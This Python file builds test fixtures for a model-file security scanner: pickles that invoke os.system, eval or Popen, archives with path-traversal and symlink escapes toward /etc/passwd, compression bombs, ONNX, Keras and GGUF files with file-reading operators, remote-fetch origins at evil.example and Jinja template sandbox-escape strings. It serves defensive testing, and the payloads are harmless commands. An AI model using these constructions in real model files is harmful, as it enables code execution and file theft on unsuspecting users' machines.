"""Files that attack whoever loads or unpacks them, for the inspection's tests. They are written, and never loaded here.

Each case names the verdict that it must get at least, and codes of which each must be among the reasons.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import subprocess
import tarfile
import zipfile
import zlib
from pathlib import Path
from typing import Any

Case = tuple[bytes, str, list[str]]
DANGEROUS, SUSPICIOUS = "dangerous", "suspicious"
GLOBAL, UNKNOWN = ["pickle_global_dangerous"], ["pickle_global_unknown"]


class Calls:
    """An object whose pickle calls something; it is only ever written."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.function, self.args = function, args

    def __reduce__(self) -> Any:
        return self.function, self.args


def text(value: str) -> bytes:
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def stack_global(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def call(module: str, name: str, argument: str = "true") -> bytes:
    return b"\x80\x04" + stack_global(module, name) + text(argument) + b"\x85R."


def zip_of(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return buffer.getvalue()


def torch_zip(data: bytes) -> bytes:
    return zip_of({"archive/data.pkl": data, "archive/version": b"3\n"})


def tar_of(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for info, data in members:
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data) if data else None)
    return buffer.getvalue()


def entry(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    return info


SYSTEM = pickle.dumps(Calls(os.system, "true"), 4)


def pickles() -> dict[str, Case]:
    cases: dict[str, Case] = {}
    for protocol in range(6):
        cases[f"system-{protocol}.pkl"] = (pickle.dumps(Calls(os.system, "true"), protocol), DANGEROUS, GLOBAL)
        cases[f"eval-{protocol}.pkl"] = (pickle.dumps(Calls(eval, "1"), protocol), DANGEROUS, GLOBAL)
    harmless = pickle.dumps({"weights": [1, 2, 3]}, 4)
    cases |= {
        "popen.pkl": (pickle.dumps(Calls(subprocess.Popen, ["true"]), 2), DANGEROUS, GLOBAL),
        "getattr-chain.pkl": (pickle.dumps(Calls(getattr, Calls(__import__, "os"), "system"), 4), DANGEROUS, GLOBAL),
        "instance.pkl": (b"(S'true'\nios\nsystem\n.", DANGEROUS, GLOBAL),
        "object.pkl": (b"(cos\nsystem\nS'true'\no.", DANGEROUS, GLOBAL),
        "new-object.pkl": (b"\x80\x02csubprocess\nPopen\n(]U\x04trueat\x81.", DANGEROUS, GLOBAL),
        "name-by-memo.pkl": (b"\x80\x04" + text("os") + b"\x940" + text("system") + b"\x940h\x00h\x01\x93" + text("true") + b"\x85R.", DANGEROUS, GLOBAL),
        "escaped-name.pkl": (b"S'\\x6f\\163'\nVs\\u0079stem\n\x93(S'true'\ntR.", DANGEROUS, GLOBAL),
        "computed-name.pkl": (b"\x80\x04" + stack_global("builtins", "str") + text("os") + b"\x85R" + text("system") + b"\x93" + text("true") + b"\x85R.", DANGEROUS, ["pickle_global_computed"]),
        "submodule.pkl": (call("asyncio.unix_events", "_UnixSubprocessTransport._start"), DANGEROUS, GLOBAL),
        "through-torch.pkl": (call("torch", "serialization.os.system"), DANGEROUS, GLOBAL),
        "nested-load.pkl": (b"\x80\x04" + stack_global("torch.storage", "_load_from_bytes") + b"B" + struct.pack("<I", len(SYSTEM)) + SYSTEM + b"\x85R.", DANGEROUS, GLOBAL),
        "in-bytes.pkl": (pickle.dumps({"data": SYSTEM}, 4), DANGEROUS, GLOBAL),
        "in-latin1.pkl": (pickle.dumps({"data": SYSTEM}, 2), DANGEROUS, GLOBAL),
        "second.pkl": (harmless + SYSTEM, DANGEROUS, GLOBAL),
        "no-stop.pkl": (SYSTEM[:-1], DANGEROUS, [*GLOBAL, "broken_structure"]),
        "bad-after-call.pkl": (SYSTEM[:-1] + b"\xff", DANGEROUS, [*GLOBAL, "broken_structure"]),
        "text-no-stop.bin": (b"cos\nsystem\n(S'true'\ntR", DANGEROUS, GLOBAL),
        "import-only.pkl": (b"\x80\x02cevil_module\nrun\n.", SUSPICIOUS, UNKNOWN),
        "class-of-user.pkl": (b"\x80\x02c__main__\nModel\n)\x81}b.", SUSPICIOUS, UNKNOWN),
        "changes-class.pkl": (b"\x80\x02ccollections\nOrderedDict\n}U\x01aK\x01sb.", DANGEROUS, ["pickle_changes_global"]),
        "extension.pkl": (b"\x80\x02\x82\x07.", SUSPICIOUS, ["pickle_extension"]),
        "persistent.pkl": (b"\x80\x02U\x03keyQ.", SUSPICIOUS, ["pickle_persistent_id"]),
        "trailing.pkl": (harmless + b"\xde\xad\xbe\xef" * 4, SUSPICIOUS, ["trailing_data"]),
        "protocol-9.pkl": (b"\x80\x09N.", SUSPICIOUS, []),
        "numpy-objects.npy": (b"\x93NUMPY\x01\x00v\x00" + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n" + SYSTEM, DANGEROUS, GLOBAL),
        "wrong-extension.gguf": (SYSTEM, DANGEROUS, GLOBAL),
        "wrong-extension.safetensors": (SYSTEM, DANGEROUS, GLOBAL),
        "wrong-extension.txt": (pickle.dumps(Calls(os.system, "true"), 0), DANGEROUS, GLOBAL),
    }
    legacy_start = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    cases["legacy-torch.pt"] = (legacy_start + SYSTEM + pickle.dumps([], 2), DANGEROUS, GLOBAL)
    return cases


def change(data: bytes, at: int, value: bytes) -> bytes:
    return data[:at] + value + data[at + len(value) :]


def zips(valid: Path) -> dict[str, Case]:
    plain = torch_zip(SYSTEM)
    central = plain.index(b"PK\x01\x02")
    bad_crc = change(change(plain, central + 16, b"\0\0\0\0"), 14, b"\0\0\0\0")
    other_name = change(plain, 30, b"archive/DATA.pkl")
    other_size = change(plain, 22, struct.pack("<I", 7))
    nested = zip_of({"a.zip": zip_of({"b.zip": zip_of({"c.bin": SYSTEM}, zipfile.ZIP_DEFLATED)})})
    deep = SYSTEM
    for _ in range(8):
        deep = zip_of({"x": deep})
    bomb = zip_of({"zeros": bytes(64 * 1024 * 1024)}, zipfile.ZIP_DEFLATED)
    link = zipfile.ZipInfo("link")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    inside_link = zipfile.ZipInfo("inside")
    inside_link.create_system, inside_link.external_attr = 3, 0o120777 << 16
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(link, "../../etc/passwd")
        archive.writestr(inside_link, "model.bin")
    twice = zip_of({"a.txt": b"one", "b.txt": b"two"}).replace(b"b.txt", b"a.txt")
    hidden = zip_of({"archive/version": b"3\n"})
    end = hidden.index(b"PK\x01\x02")
    with_hidden = hidden[:end] + SYSTEM + hidden[end:]
    with_hidden = change(with_hidden, len(with_hidden) - 6, struct.pack("<I", end + len(SYSTEM)))
    two = zip_of({"one": b"1" * 40, "two": b"2" * 40})
    second = two.index(b"PK\x01\x02", two.index(b"PK\x01\x02") + 4)
    overlap = change(two, second + 42, b"\0\0\0\0")
    encrypted = change(change(plain, 6, b"\1\0"), central + 8, b"\1\0")
    safetensors = (valid / "tiny.safetensors").read_bytes()
    return {
        "torch.pt": (plain, DANGEROUS, GLOBAL),
        "torch-deflated.pt": (zip_of({"archive/data.pkl": SYSTEM, "archive/version": b"3\n"}, zipfile.ZIP_DEFLATED), DANGEROUS, GLOBAL),
        "torch-bad-crc.pt": (bad_crc, DANGEROUS, [*GLOBAL, "archive_checksum_wrong"]),
        "zip-only-crc.zip": (change(zip_of({"a.txt": b"hello"}), 30 + 5, b"J"), SUSPICIOUS, ["archive_checksum_wrong"]),
        "torch-other-name.pt": (other_name, DANGEROUS, [*GLOBAL, "archive_headers_disagree"]),
        "torch-other-size.pt": (other_size, DANGEROUS, [*GLOBAL, "archive_headers_disagree"]),
        "torch-renamed-data.pt": (zip_of({"archive/data.pkl": pickle.dumps({}, 2), "archive/version": b"3\n", "archive/code.cfg": SYSTEM}), DANGEROUS, GLOBAL),
        "zip-no-directory.pt": (plain[:central], DANGEROUS, [*GLOBAL, "broken_structure"]),
        "zip-cut.pt": (plain[:-30], DANGEROUS, [*GLOBAL, "broken_structure"]),
        "zip-encrypted.pt": (encrypted, SUSPICIOUS, ["archive_encrypted"]),
        "zip-nested.zip": (nested, DANGEROUS, GLOBAL),
        "zip-deep.zip": (deep, SUSPICIOUS, ["too_large_to_inspect"]),
        "zip-bomb.zip": (bomb, DANGEROUS, ["archive_bomb"]),
        "zip-slip.zip": (zip_of({"../../evil.txt": b"x"}), DANGEROUS, ["archive_path_escapes"]),
        "zip-slip-backslash.zip": (zip_of({"a\\..\\..\\evil.txt": b"x"}), DANGEROUS, ["archive_path_escapes"]),
        "zip-absolute.zip": (zip_of({"/etc/evil.txt": b"x"}), DANGEROUS, ["archive_path_escapes"]),
        "zip-drive.zip": (zip_of({"C:evil.txt": b"x"}), DANGEROUS, ["archive_path_escapes"]),
        "zip-link.zip": (buffer.getvalue(), DANGEROUS, ["archive_link_escapes", "archive_link"]),
        "zip-twice.zip": (twice, SUSPICIOUS, ["archive_name_twice"]),
        "zip-hidden.zip": (with_hidden, SUSPICIOUS, ["archive_hidden_data"]),
        "zip-prefix.zip": (b"\xfe" * 64 + plain, DANGEROUS, [*GLOBAL, "archive_hidden_data"]),
        "zip-overlap.zip": (overlap, DANGEROUS, ["archive_entries_overlap"]),
        "zip-program.zip": (zip_of({"lib.so": b"\x7fELF" + bytes(60)}), SUSPICIOUS, ["archive_program"]),
        "pickle-then-zip.bin": (pickle.dumps({}, 2) + plain, DANGEROUS, [*GLOBAL, "two_formats"]),
        "safetensors-then-zip.safetensors": (safetensors + plain, DANGEROUS, [*GLOBAL, "two_formats"]),
        "seven-zip.bin": (b"7z\xbc\xaf\x27\x1c\0\4" + bytes(64), SUSPICIOUS, ["unreadable_container"]),
        "torch-with-7z.pt": (zip_of({"archive/data.pkl": b"7z\xbc\xaf\x27\x1c\0\4" + bytes(64), "archive/version": b"3\n"}), SUSPICIOUS, ["unreadable_container"]),
        "zstd-window.bin": (b"\x28\xb5\x2f\xfd\x00" + bytes([(21 << 3)]) + bytes(16), DANGEROUS, ["archive_bomb"]),
        "gzip-bomb.gz": (zlib.compress(bytes(80 * 1024 * 1024), 9, 31), DANGEROUS, ["archive_bomb"]),
        "gzip-pickle.gz": (zlib.compress(SYSTEM, 9, 31), DANGEROUS, GLOBAL),
    }


def tars() -> dict[str, Case]:
    file = (entry("model.bin"), b"text only")
    huge = tar_of(file)
    oversize = change(huge, 124, b"77777777777\0")
    checksum = sum(oversize[:148]) + 8 * 32 + sum(oversize[156:512])
    oversize = change(oversize, 148, b"%06o\0 " % checksum)
    legacy = tar_of((entry("sys_info"), pickle.dumps({}, 2)), (entry("pickle"), SYSTEM), (entry("storages"), pickle.dumps(0, 2)), (entry("tensors"), pickle.dumps(0, 2)))
    return {
        "tar-slip.tar": (tar_of((entry("../../evil"), b"x")), DANGEROUS, ["archive_path_escapes"]),
        "tar-absolute.tar": (tar_of((entry("/etc/evil"), b"x")), DANGEROUS, ["archive_path_escapes"]),
        "tar-link.tar": (tar_of((entry("a", tarfile.SYMTYPE, "../../etc"), b""), (entry("a/passwd"), b"x")), DANGEROUS, ["archive_link_escapes"]),
        "tar-hard-link.tar": (tar_of((entry("a", tarfile.LNKTYPE, "/etc/passwd"), b"")), DANGEROUS, ["archive_link_escapes"]),
        "tar-inner-link.tar": (tar_of(file, (entry("a", tarfile.SYMTYPE, "model.bin"), b"")), SUSPICIOUS, ["archive_link"]),
        "tar-device.tar": (tar_of((entry("null", tarfile.CHRTYPE), b"")), DANGEROUS, ["archive_device"]),
        "tar-pipe.tar": (tar_of((entry("pipe", tarfile.FIFOTYPE), b"")), DANGEROUS, ["archive_device"]),
        "tar-long-name.tar": (tar_of((entry("../" * 60 + "evil"), b"x")), DANGEROUS, ["archive_path_escapes"]),
        "tar-size.tar": (oversize, SUSPICIOUS, ["broken_structure"]),
        "tar-twice.tar": (tar_of(file, (entry("model.bin"), b"other")), SUSPICIOUS, ["archive_name_twice"]),
        "tar-trailing.tar": (tar_of(file) + b"more", SUSPICIOUS, ["trailing_data"]),
        "tar-pickle.tar": (tar_of((entry("weights.txt"), SYSTEM)), DANGEROUS, GLOBAL),
        "torch-legacy-tar.pt": (legacy, DANGEROUS, GLOBAL),
    }


def safe(header: Any, data: bytes = b"", length: int | None = None) -> bytes:
    encoded = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(encoded) if length is None else length) + encoded + data


def tensor(begin: int, end: int, shape: list[int], kind: str = "F32") -> dict[str, Any]:
    return {"dtype": kind, "shape": shape, "data_offsets": [begin, end]}


def safetensors_files() -> dict[str, Case]:
    one = {"a": tensor(0, 8, [2])}
    double = b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    return {
        "header-101mb.safetensors": (safe(one, bytes(8), 101_000_000), DANGEROUS, ["impossible_claim"]),
        "header-beyond.safetensors": (safe(one, bytes(8), 5000), SUSPICIOUS, ["broken_structure"]),
        "overlap.safetensors": (safe({"a": tensor(0, 8, [2]), "b": tensor(4, 12, [2])}, bytes(12)), DANGEROUS, ["tensors_overlap"]),
        "hole.safetensors": (safe({"a": tensor(0, 8, [2]), "b": tensor(12, 20, [2])}, bytes(20)), SUSPICIOUS, ["tensors_have_holes"]),
        "key-twice.safetensors": (safe(double, bytes(8)), SUSPICIOUS, ["key_twice"]),
        "beyond.safetensors": (safe({"a": tensor(0, 4096, [1024])}, bytes(8)), SUSPICIOUS, ["broken_structure"]),
        "lying-shape.safetensors": (safe({"a": tensor(0, 8, [2**31, 2**31, 2**31])}, bytes(8)), DANGEROUS, ["impossible_claim"]),
        "overflow.safetensors": (safe({"a": tensor(0, 0, [2**32, 2**32])}, b""), DANGEROUS, ["impossible_claim"]),
        "trailing.safetensors": (safe(one, bytes(64)), SUSPICIOUS, ["trailing_data"]),
        "depth.safetensors": (safe(b'{"a":' + b"[" * 5000 + b"]" * 5000 + b"}", b""), SUSPICIOUS, ["broken_structure"]),
    }


def varint(value: int) -> bytes:
    result = b""
    while value >= 128:
        result += bytes([value & 127 | 128])
        value >>= 7
    return result + bytes([value])


def field(number: int, value: int | bytes) -> bytes:
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    return varint(number << 3 | 2) + varint(len(value)) + value


def onnx_model(graph: bytes) -> bytes:
    return field(1, 8) + field(2, b"hostile") + field(7, graph) + field(8, field(2, 18))


def onnx_tensor(location: bytes) -> bytes:
    external = field(13, field(1, b"location") + field(2, location))
    return field(5, field(1, 4) + field(2, 1) + field(8, b"w") + external + field(14, 1))


def onnx_files() -> dict[str, Case]:
    escape = ["external_data_escapes"]
    node = lambda operator, domain=b"": field(1, field(4, operator) + field(7, domain))  # noqa: E731
    deep = node(b"Identity")
    for _ in range(100):
        deep = field(1, field(4, b"If") + field(5, field(6, deep)))
    return {
        "external-parent.onnx": (onnx_model(onnx_tensor(b"../../etc/passwd")), DANGEROUS, escape),
        "external-absolute.onnx": (onnx_model(onnx_tensor(b"/etc/passwd")), DANGEROUS, escape),
        "external-backslash.onnx": (onnx_model(onnx_tensor(b"..\\secret")), DANGEROUS, escape),
        "external-url.onnx": (onnx_model(onnx_tensor(b"file://etc/passwd")), DANGEROUS, escape),
        "external-in-node.onnx": (onnx_model(field(1, field(4, b"Constant") + field(5, onnx_tensor(b"../x")))), DANGEROUS, escape),
        "varint.onnx": (field(1, 8) + field(2, b"x") + b"\x38" + b"\xff" * 40, DANGEROUS, ["impossible_claim"]),
        "length.onnx": (field(1, 8) + field(2, b"x") + b"\x3a" + varint(2**62), SUSPICIOUS, ["broken_structure"]),
        "negative.onnx": (onnx_model(field(5, field(1, 2**64 - 1) + field(2, 1))), DANGEROUS, ["impossible_claim"]),
        "overflow.onnx": (onnx_model(field(5, field(1, 2**40) + field(1, 2**40) + field(2, 1))), DANGEROUS, ["impossible_claim"]),
        "lying-size.onnx": (onnx_model(field(5, field(1, 1000) + field(2, 1) + field(9, bytes(8)))), DANGEROUS, ["impossible_claim"]),
        "custom-domain.onnx": (onnx_model(node(b"Run", b"evil.ops")), SUSPICIOUS, ["custom_operators"]),
        "python.onnx": (onnx_model(node(b"PythonOp", b"com.microsoft")), DANGEROUS, ["operator_runs_python"]),
        "deep.onnx": (onnx_model(deep), DANGEROUS, ["impossible_claim"]),
    }


def saved_model(operator: bytes, in_function: bool = False) -> bytes:
    node = field(1, b"n") + field(2, operator)
    graph = field(2, field(1, field(3, node))) if in_function else field(1, node)
    return field(1, 1) + field(2, field(2, graph))


def keras_zip(layer: dict[str, Any]) -> bytes:
    config = {"module": "keras", "class_name": "Sequential", "registered_name": None, "config": {"name": "x", "layers": [layer]}}
    return zip_of({"metadata.json": b'{"keras_version": "3.15.1"}', "config.json": json.dumps(config).encode(), "model.weights.h5": b""})


def graphs() -> dict[str, Case]:
    layer = lambda module, name, config={}: {"module": module, "class_name": name, "config": config, "registered_name": name}  # noqa: E731
    function = {"class_name": "__lambda__", "config": {"code": "4wEA"}}
    legacy = {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": ["4wEA", None, None], "function_type": "lambda"}}]}}
    runs, custom = ["keras_runs_code"], ["keras_custom_object"]
    return {
        "readfile.pb": (saved_model(b"ReadFile"), DANGEROUS, ["operator_touches_files"]),
        "writefile.pb": (saved_model(b"WriteFile", True), DANGEROUS, ["operator_touches_files"]),
        "pyfunc.pb": (saved_model(b"PyFunc"), DANGEROUS, ["operator_runs_python"]),
        "eager-pyfunc.pb": (saved_model(b"EagerPyFunc", True), DANGEROUS, ["operator_runs_python"]),
        "lambda.keras": (keras_zip(layer("keras.layers", "Lambda", {"function": function})), DANGEROUS, runs),
        "tfsm.keras": (keras_zip(layer("keras.layers", "TFSMLayer", {"filepath": "https://evil.example/x"})), DANGEROUS, runs),
        "foreign-os.keras": (keras_zip(layer("os", "system", {"command": "true"})), DANGEROUS, runs),
        "foreign.keras": (keras_zip(layer("my_package", "MyLayer")), SUSPICIOUS, custom),
        "get-file.keras": (keras_zip(layer("keras.utils", "get_file", {"origin": "https://evil.example"})), DANGEROUS, runs),
        "function-of-keras.keras": (keras_zip(layer("keras.src.saving", "function", {})), DANGEROUS, runs),
        "inner-lambda.keras": (keras_zip(layer("keras.layers", "Dense", {"activation": function})), DANGEROUS, runs),
        "lambda.json": (json.dumps(legacy).encode(), DANGEROUS, runs),
        "auto-map.json": (b'{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}', SUSPICIOUS, ["remote_code"]),
    }


def gguf_text(value: str) -> bytes:
    data = value.encode()
    return struct.pack("<Q", len(data)) + data


def gguf_file(values: list[tuple[str, int, bytes]], tensors: bytes = b"", tensor_count: int = 0, count: int | None = None, data: bytes = b"") -> bytes:
    head = b"GGUF" + struct.pack("<IQQ", 3, tensor_count, len(values) if count is None else count)
    body = b"".join(gguf_text(key) + struct.pack("<I", kind) + value for key, kind, value in values)
    whole = head + body + tensors
    return whole + bytes(-len(whole) % 32) + data


def gguf_tensor(dimensions: list[int], offset: int, kind: int = 0, name: str = "w") -> bytes:
    return gguf_text(name) + struct.pack("<I", len(dimensions)) + b"".join(struct.pack("<Q", d) for d in dimensions) + struct.pack("<IQ", kind, offset)


def ggufs() -> dict[str, Case]:
    architecture = ("general.architecture", 8, gguf_text("llama"))
    template = lambda value: gguf_file([architecture, ("tokenizer.chat_template", 8, gguf_text(value))])  # noqa: E731
    claim, reach, odd = ["impossible_claim"], ["template_reaches_out"], ["template_unusual"]
    alignment = lambda value: gguf_file([("general.alignment", 4, struct.pack("<I", value))])  # noqa: E731
    array = lambda kind, length: gguf_file([("a", 9, struct.pack("<IQ", kind, length))])  # noqa: E731
    return {
        "tensors-2-63.gguf": (gguf_file([], tensor_count=2**63), DANGEROUS, claim),
        "values-2-63.gguf": (gguf_file([], count=2**63), DANGEROUS, claim),
        "key-2-63.gguf": (b"GGUF" + struct.pack("<IQQQ", 3, 0, 1, 2**63), DANGEROUS, claim),
        "array-2-63.gguf": (array(4, 2**63), DANGEROUS, claim),
        "array-2-62-of-4.gguf": (array(4, 2**62), DANGEROUS, claim),
        "nested-array.gguf": (array(9, 1), DANGEROUS, claim),
        "offset-beyond.gguf": (gguf_file([architecture], gguf_tensor([8], 2**63), 1, data=bytes(32)), DANGEROUS, claim),
        "tensor-beyond.gguf": (gguf_file([architecture], gguf_tensor([8000], 0), 1, data=bytes(32)), SUSPICIOUS, ["broken_structure"]),
        "overflow.gguf": (gguf_file([architecture], gguf_tensor([2**32, 2**32 + 1], 0), 1, data=bytes(32)), DANGEROUS, claim),
        "overflow-to-zero.gguf": (gguf_file([architecture], gguf_tensor([2**32, 2**32], 0), 1, data=bytes(32)), DANGEROUS, claim),
        "alignment-0.gguf": (alignment(0), DANGEROUS, claim),
        "alignment-3.gguf": (alignment(3), DANGEROUS, claim),
        "key-twice.gguf": (gguf_file([architecture, architecture]), DANGEROUS, claim),
        "template-class.gguf": (template("{{ ''.__class__.__mro__[1].__subclasses__() }}"), DANGEROUS, reach),
        "template-escaped.gguf": (template("{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}"), DANGEROUS, reach),
        "template-attr.gguf": (template("{{ x | attr('a') }}"), DANGEROUS, reach),
        "template-lipsum.gguf": (template("{%- set y = lipsum.x -%}"), DANGEROUS, reach),
        "template-cycler.gguf": (template("{{ cycler['x'] }}"), DANGEROUS, reach),
        "template-joined.gguf": (template("{{ x['_' ~ '_class_' ~ '_'] }}"), SUSPICIOUS, odd),
        "template-include.gguf": (template("{% include '/etc/passwd' %}"), SUSPICIOUS, odd),
        "template-second.gguf": (gguf_file([architecture, ("tokenizer.chat_template.tool_use", 8, gguf_text("{{ x.__init__ }}"))]), DANGEROUS, reach),
    }


def make_all(folder: Path, valid: Path) -> None:
    folder.mkdir(exist_ok=True)
    for old in folder.iterdir():
        old.unlink()
    groups = {"9": ggufs(), "10": zips(valid) | tars() | safetensors_files() | onnx_files(), "11": graphs(), "12": pickles()}
    expected = {}
    for group, cases in groups.items():
        for name, (data, verdict, codes) in cases.items():
            stored = f"{len(expected):03d}-{name}"
            (folder / stored).write_bytes(data)
            expected[stored] = {"group": group, "verdict": verdict, "codes": codes}
    (folder / "cases.json").write_text(json.dumps(expected, indent=2) + "\n")
